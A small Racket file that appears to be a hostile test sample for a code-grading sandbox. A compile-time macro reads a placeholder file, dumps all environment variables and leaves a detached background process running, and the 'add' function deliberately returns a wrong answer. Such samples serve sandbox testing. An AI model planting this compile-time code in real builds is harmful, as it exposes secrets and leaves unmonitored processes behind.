#lang racket
; Run code while being compiled: read what there is, leave a process behind.
; catalogue: H14, H17, H33
; shows: canary, survives
; ends: wrong_answer, runtime_error, compile_error
(require (for-syntax racket/base racket/file racket/system))
(define-syntax (stolen stx)
  (define file
    (with-handlers ([void (lambda (e) "")]) (file->string "@FILE@")))
  (define everything
    (for/list ([name (environment-variables-names (current-environment-variables))])
      (format "~a=~a" name (environment-variables-ref (current-environment-variables) name))))
  (system "setsid sh -c 'exec sleep 60' @MARKER@ >/dev/null 2>&1 &")
  (datum->syntax stx (format "attacking ~a ~a" file everything)))
(displayln (stolen))
(define (add a b) -12345)
